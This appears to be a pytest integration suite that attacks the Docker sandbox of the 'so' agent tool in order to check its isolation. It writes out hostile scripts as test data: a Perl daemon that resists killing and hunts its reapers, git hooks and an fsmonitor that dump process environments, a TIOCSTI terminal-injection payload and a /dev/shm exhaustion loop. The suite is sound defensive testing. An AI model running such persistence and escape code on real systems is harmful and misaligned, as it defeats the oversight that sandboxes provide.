"""Docker: what the agent leaves running, what enters the container, what it may use.

Each attack is a committed ``attack.sh`` run by the real ``so`` CLI (``tests/security/
hostile.py``); what is left is checked from the host (``docker top``, the host's ``/proc``),
never by asking the container. Every attack has a control that shows the check can fail.
"""

from __future__ import annotations

import contextlib
import json
import subprocess
import time
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from hostile import HostileUser, run_in_pty

from helpers import SO
from sono.images import agent_ids

pytestmark = pytest.mark.integration

# A daemon that fights back: double fork into a new session, ignore every catchable
# signal, take a kernel thread's name, become non-dumpable (its /proc entry then reads as
# root's), kill whatever looks like a reaper, and keep re-forking (a new pid every few ms).
DAEMON = r"""
$SIG{$_} = "IGNORE" for qw(TERM HUP INT QUIT USR1 USR2 PIPE);
exit if fork;
syscall(112);                    # setsid
exit if fork;
$0 = "kworker/0:1";
syscall(157, 4, 0, 0, 0, 0);     # prctl(PR_SET_DUMPABLE, 0): /proc/PID reads as root's
while (1) {
    opendir(my $d, "/proc");
    for my $p (grep { /^\d+$/ && $_ != $$ } readdir $d) {
        open(my $f, "<", "/proc/$p/cmdline") or next;
        local $/;
        my $c = <$f>;
        kill 9, $p if defined $c && $c =~ /python|reap|pkill|kill|supervise/;
    }
    select(undef, undef, undef, 0.005);
    exit if fork;                # a new pid every few ms
}
"""

# A hook / fsmonitor for so's own git: a daemon that outlives the git call.
GIT_DAEMON = """#!/bin/sh
cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline > /workspace/.seen-by-git 2>/dev/null
env -i setsid perl /workspace/.d.pl </dev/null >/dev/null 2>&1 &
exit 0
"""

ATTACK = f"""set -e
cat > /workspace/.d.pl <<'EOF'
{DAEMON}
EOF
cat > /workspace/.hook.sh <<'EOF'
{GIT_DAEMON}
EOF
printf '#!/bin/sh\n/workspace/.hook.sh\nexit 1\n' > /workspace/.fsm.sh
chmod +x /workspace/.hook.sh /workspace/.fsm.sh
git config core.fsmonitor /workspace/.fsm.sh
git config core.hooksPath /workspace/.hooks
mkdir -p /workspace/.hooks
for h in post-checkout post-commit pre-commit post-index-change reference-transaction; do
  ln -sf /workspace/.hook.sh /workspace/.hooks/$h
done
env -i setsid perl /workspace/.d.pl </dev/null >/dev/null 2>&1 &
nohup sh -c 'trap "" TERM HUP; exec sleep 654321' </dev/null >/dev/null 2>&1 &
sleep 1
echo "daemons running: $(ps -eo args | grep -c '^kworker/0:1')"
echo "- [x] one" > specs/implementation-plan.md
git add -A && git commit -qm "agent work" || true
"""


def container(sandbox_id: str) -> str:
    return f"so-{sandbox_id}"


def agent_processes(sandbox_id: str) -> list[str]:
    """The container's processes of the agent's uid, as the engine lists them (host pids)."""
    uid, _ = agent_ids()
    out = subprocess.run(
        ["docker", "top", container(sandbox_id), "-eo", "pid,uid,args"],
        capture_output=True,
        text=True,
        check=False,  # no container yet: nothing runs
    ).stdout.splitlines()[1:]
    return [line for line in out if line.split()[1] == str(uid)]


def settled(sandbox_id: str, seconds: float = 2.0) -> list[str]:
    """Agent processes still there after ``seconds`` (a racing daemon gets its chance)."""
    time.sleep(seconds)
    return agent_processes(sandbox_id)


def host_pids(sandbox_id: str) -> list[int]:
    out = subprocess.run(
        ["docker", "top", container(sandbox_id), "-eo", "pid"],
        capture_output=True,
        text=True,
        check=True,
    ).stdout.split()[1:]
    return [int(p) for p in out]


def process_texts(sandbox_id: str) -> str:
    """Every environment and command line in the container, read from the host's /proc."""
    parts = []
    for pid in host_pids(sandbox_id):
        for name in ("environ", "cmdline"):
            with contextlib.suppress(OSError):
                parts.append(Path(f"/proc/{pid}/{name}").read_bytes().decode(errors="replace"))
    return "\n".join(parts)


def hold(marker: str) -> str:
    """A shell command that runs, showing ``marker``, until its input ends."""
    return f"exec sh -c 'read -r line; exit 0' m{marker}"


@contextlib.contextmanager
def open_shell(user: HostileUser, sandbox_id: str, command: str) -> Iterator[subprocess.Popen[str]]:
    """``so shell ID -- sh -c COMMAND`` left open (no terminal: ``docker exec -i``)."""
    shell = subprocess.Popen(
        [SO, "shell", sandbox_id, "--", "sh", "-c", command],
        cwd=user.project,
        env=user.env,
        stdin=subprocess.PIPE,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
    )
    try:
        yield shell
    finally:
        assert shell.stdin is not None
        shell.stdin.close()  # a shell that reads its input ends by itself
        try:
            shell.wait(timeout=30)
        except subprocess.TimeoutExpired:
            shell.kill()
            shell.wait()


def wait_for(predicate: Callable[[], object], timeout: float = 60) -> bool:
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        if predicate():
            return True
        time.sleep(0.2)
    return False


@pytest.fixture
def docker_user(docker_ready: str, tmp_path: Path) -> HostileUser:
    return HostileUser.make(tmp_path)


def test_nothing_of_the_agent_outlives_the_run_or_sos_own_git(docker_user: HostileUser) -> None:
    user = docker_user
    result = user.attack(ATTACK, backend="docker")
    sid = result.sandbox_id
    assert sid, result.stderr
    running = [ln for ln in result.everything().splitlines() if "daemons running:" in ln]
    assert running and running[-1].split()[-1] != "0", running  # the attack did start
    left = settled(sid)
    assert left == [], f"left after so run: {left}\n{result.stderr[-2000:]}"
    diff = user.so("diff", sid)
    assert "[x] one" in diff.stdout, diff.stdout + diff.stderr  # the run did its work
    left = settled(sid)
    assert left == [], f"left after so diff: {left}"
    # Control: an agent-uid process that is there is seen by the same check.
    with open_shell(user, sid, hold("321321")):
        assert wait_for(lambda: any("321321" in line for line in agent_processes(sid)))


def test_open_shell_survives_reaping_and_its_orphans_do_not(docker_user: HostileUser) -> None:
    user = docker_user
    sid = user.attack(ATTACK, backend="docker").sandbox_id
    assert sid
    # The shell's own child is kept while the shell is open; what it orphans is not.
    script = "(setsid sleep 434343 </dev/null >/dev/null 2>&1 &); " + hold("121212")
    with open_shell(user, sid, script) as shell:
        assert wait_for(lambda: any("121212" in line for line in agent_processes(sid)))
        run = user.so(
            "continue",
            sid,
            "-H",
            "custom",
            "--agent-cmd",
            "bash /workspace/attack.sh",
            "-i",
            "1",
            "--yes",
            "-q",
        )
        assert "iteration 2:" in run.stderr, run.stderr  # the agent ran again
        assert user.so("diff", sid).returncode == 0
        left = settled(sid)
        assert shell.poll() is None, "the open shell was killed"
        assert [line for line in left if "121212" in line], left
        assert [line for line in left if "121212" not in line] == [], left
    assert shell.returncode == 0, shell.stderr.read() if shell.stderr else ""
    assert agent_processes(sid) == [], agent_processes(sid)  # reaped as the shell ended


ENV_PROBE = """
sleep 4.5
cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline 2>/dev/null | tr '\\0' '\\n' > /tmp/.seen-by-agent
cat > /tmp/.fsm.sh <<'EOF'
#!/bin/sh
cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline > /tmp/.seen-by-git 2>/dev/null
exit 1
EOF
chmod +x /tmp/.fsm.sh
git config core.fsmonitor /tmp/.fsm.sh
"""


def test_every_process_in_the_container_starts_from_a_clean_environment(
    docker_user: HostileUser,
) -> None:
    """The user's canary environment and host paths reach no process in the container: the
    agent run (read from the host while it runs, root's processes too), a shell, so's git."""
    user = docker_user
    user.commit({"attack.sh": ENV_PROBE}, "the agent")
    argv = [
        SO,
        "run",
        "-s",
        "docker",
        "-H",
        "custom",
        "--agent-cmd",
        "bash /workspace/attack.sh",
        "-i",
        "1",
        "--yes",
        "-q",
    ]
    run = subprocess.Popen(
        argv,
        cwd=user.project,
        env=user.env,
        text=True,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
    )
    during = ""
    try:
        assert wait_for(user._ids, timeout=120)
        sid = sorted(user._ids())[0]
        assert wait_for(lambda: any("sleep 4.5" in p for p in agent_processes(sid)), 120)
        during = process_texts(sid)
    finally:
        _, err = run.communicate(timeout=300)
    assert "iteration 1:" in err, err
    with open_shell(user, sid, hold("565656")):
        assert wait_for(lambda: any("565656" in line for line in agent_processes(sid)))
        in_shell = process_texts(sid)
    user.so("diff", sid)
    inside = user.so("shell", sid, "--", "sh", "-c", "cat /tmp/.seen-by-*").stdout
    texts = {"during the run": during, "in a shell": in_shell, "seen inside": inside}
    for where, text in texts.items():
        # Control: the texts hold real environments.
        assert f"SO_SANDBOX_ID={sid}" in text, where
        assert not user.leaks(text), (where, user.leaks(text))
        assert str(user.root) not in text, f"a host path {where}"
    # so's own git runs with fsmonitor, hooks and the like switched off: the agent's probe
    # never ran in it (the agent's own dump, read above, is the control).
    assert "/tmp/.fsm.sh" not in inside


SECCOMP_PROBE = r"""
grep -E '^(Seccomp|NoNewPrivs):' /proc/self/status | tr -d '\t' | sed 's/^/status /'
# keyctl(KEYCTL_GET_KEYRING_ID, KEY_SPEC_SESSION_KEYRING, create); getpid as the control
perl -e '$r = syscall(250, 0, -3, 1); print "keyctl $r ", $!+0, "\n";
  print "getpid ", (syscall(39) > 0 ? "ok" : "no"), "\n"'
"""


def test_default_seccomp_and_no_new_privileges(docker_user: HostileUser) -> None:
    user = docker_user
    result = user.attack(SECCOMP_PROBE, backend="docker")
    sid = user.sandbox_id()
    logs = result.everything()
    assert "status Seccomp:2" in logs and "status NoNewPrivs:1" in logs, logs[-3000:]
    assert "keyctl -1 1\n" in logs, logs[-3000:]  # EPERM
    assert "getpid ok" in logs  # control: syscalls work
    config = json.loads(
        subprocess.run(
            ["docker", "inspect", container(sid)], capture_output=True, check=True
        ).stdout
    )[0]["HostConfig"]
    assert not any("unconfined" in opt for opt in config["SecurityOpt"] or [])
    assert "no-new-privileges" in config["SecurityOpt"]
    assert config["Privileged"] is False


# TIOCSTI (0x5412): push "echo INJECTED" into the input of the terminal on stdin.
TIOCSTI = "ioctl(STDIN, 0x5412, $_) for split //, qq{echo INJECTED\\n}"


def test_tiocsti_in_a_shell_does_not_reach_the_host_terminal(docker_user: HostileUser) -> None:
    user = docker_user
    user.attack("echo first run\n", backend="docker")
    sid = user.sandbox_id()
    bash = "/bin/bash"
    # The host shell reads one line after `so shell` ends: what an injection would type.
    attack = f'{SO} shell {sid} -- perl -e "$1"; read -r -t 3 line; echo "GOT:$line:"'
    res = run_in_pty([bash, "-c", attack, "x", TIOCSTI], env=user.env, cwd=user.project)
    assert b"GOT::" in res.output, res.output[-2000:]
    assert b"GOT:echo INJECTED" not in res.output
    # Control: the same injection from a host process on this terminal does arrive.
    control = 'perl -e "$1"; read -r -t 3 line; echo "GOT:$line:"'
    res = run_in_pty([bash, "-c", control, "x", TIOCSTI], env=user.env, cwd=user.project)
    assert b"GOT:echo INJECTED:" in res.output, res.output[-2000:]


SHM_FILL = """
i=0; made=0
while [ $i -lt 70000 ]; do : > /dev/shm/f$i 2>/dev/null || break; i=$((i+1)); done
echo "shm files: $i"
mount | grep -E ' type tmpfs ' | tr ',' ' '
rm -f /dev/shm/f*
"""


def test_tmpfs_has_a_size_and_an_inode_cap(docker_user: HostileUser) -> None:
    user = docker_user
    result = user.attack(SHM_FILL, backend="docker")
    logs = result.everything()
    count = next(int(ln.split()[-1]) for ln in logs.splitlines() if ln.startswith("shm files:"))
    assert 1000 < count < 70000, count  # control: files can be made; attack: not unbounded
    shm = next(ln for ln in logs.splitlines() if " /dev/shm " in ln)
    assert "size=65536k" in shm and "nr_inodes=" in shm, shm
